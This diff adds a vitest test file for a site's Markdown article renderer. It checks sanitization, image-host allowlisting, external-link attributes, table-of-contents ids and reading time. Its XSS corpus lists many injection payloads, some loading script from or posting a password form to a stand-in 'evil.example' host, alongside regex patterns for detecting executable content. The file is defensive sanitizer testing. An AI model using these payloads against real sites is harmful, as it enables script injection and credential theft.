@@ -1,0 +1,96 @@
+import { describe, expect, it } from "vitest";
+import { readMinutes, renderArticle } from "./markdown.server";
+
+/** An XSS corpus as authors (or a compromised content file) might write it, in Markdown and inline HTML. */
+const CORPUS = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  '<img src=x onerror="alert(1)">',
+  '<img src="https://images.unsplash.com/p.jpg" onload="alert(1)">',
+  "<svg><script>alert(1)</script></svg>",
+  '<svg onload="alert(1)"><circle r="9"/></svg>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<a href="javascript:alert(1)">click</a>',
+  '<a href="JaVaScRiPt:alert(1)">click</a>',
+  '<a href="java&#x09;script:alert(1)">click</a>',
+  "[click](javascript:alert(1))",
+  "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+  '<iframe src="https://evil.example"></iframe>',
+  '<object data="x.swf"></object><embed src="x.swf">',
+  '<div style="background:url(javascript:alert(1))">styled</div>',
+  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
+  "<style>body{display:none}</style>",
+  '<form action="https://evil.example"><input name="password"></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<p id="main" name="x">clobber</p>',
+  '<details open ontoggle="alert(1)">x</details>',
+  '<a href="https://example.com" onclick="alert(1)" target="_self">x</a>',
+  "<template><script>alert(1)</script></template>",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+];
+
+const EXECUTABLE = [
+  /<script/i,
+  /\son[a-z]+\s*=/i,
+  /javascript:/i,
+  /data:/i,
+  /<iframe/i,
+  /<object/i,
+  /<embed/i,
+  /<svg/i,
+  /<math/i,
+  /style=/i,
+  /<style/i,
+  /<form/i,
+  /<meta/i,
+  /<base/i,
+  /<link/i,
+  /<template/i,
+];
+
+describe("renderArticle", () => {
+  it.each(CORPUS)("leaves nothing executable of %s", (input) => {
+    const { html } = renderArticle(`Intro paragraph.\n\n${input}\n\nOutro.`);
+    for (const pattern of EXECUTABLE) expect(html, String(pattern)).not.toMatch(pattern);
+    expect(html).not.toMatch(/id="main"/);
+  });
+
+  it("keeps images from our paths and allowed https hosts only, lazily", () => {
+    const { html } = renderArticle(
+      "![ours](/images/posts/a.png) ![cdn](https://images.unsplash.com/photo.jpg) ![http](http://images.unsplash.com/p.jpg) ![other](https://evil.example/p.jpg) ![lookalike](https://images.unsplash.com.evil.example/p.jpg)",
+    );
+    expect(html).toContain('src="/images/posts/a.png"');
+    expect(html).toContain('src="https://images.unsplash.com/photo.jpg"');
+    expect(html).not.toContain("http://images.unsplash.com");
+    expect(html).not.toContain("evil.example");
+    expect(html).toMatch(/<img src="\/images\/posts\/a.png" alt="ours" loading="lazy"/);
+  });
+
+  it("opens external links in a new tab with noopener nofollow and keeps ours in the tab", () => {
+    const { html } = renderArticle("[Midjourney](https://www.midjourney.com) and [our review](/tools/midjourney).");
+    expect(html).toContain('<a href="https://www.midjourney.com" rel="noopener nofollow" target="_blank">Midjourney</a>');
+    expect(html).toContain('<a href="/tools/midjourney">our review</a>');
+  });
+
+  it("gives h2 and h3 ids and lists them as the table of contents", () => {
+    const { html, toc } = renderArticle("## What it does\n\nText.\n\n### Pricing, honestly\n\nMore.\n\n## What it does\n\nAgain.");
+    expect(html).toContain('<h2 id="what-it-does">What it does</h2>');
+    expect(html).toContain('<h3 id="pricing-honestly">Pricing, honestly</h3>');
+    expect(toc).toEqual([
+      { id: "what-it-does", text: "What it does", level: 2 },
+      { id: "pricing-honestly", text: "Pricing, honestly", level: 3 },
+      { id: "what-it-does-1", text: "What it does", level: 2 },
+    ]);
+  });
+
+  it("renders GitHub tables and counts words for the reading time", () => {
+    const { html, words } = renderArticle(`| Tool | Use |\n| --- | --- |\n| Cursor | Code |\n\n${"word ".repeat(1100)}`);
+    expect(html).toContain("<table>");
+    expect(words).toBeGreaterThan(1100);
+    expect(readMinutes(words)).toBe(5);
+    expect(readMinutes(10)).toBe(1);
+  });
+});
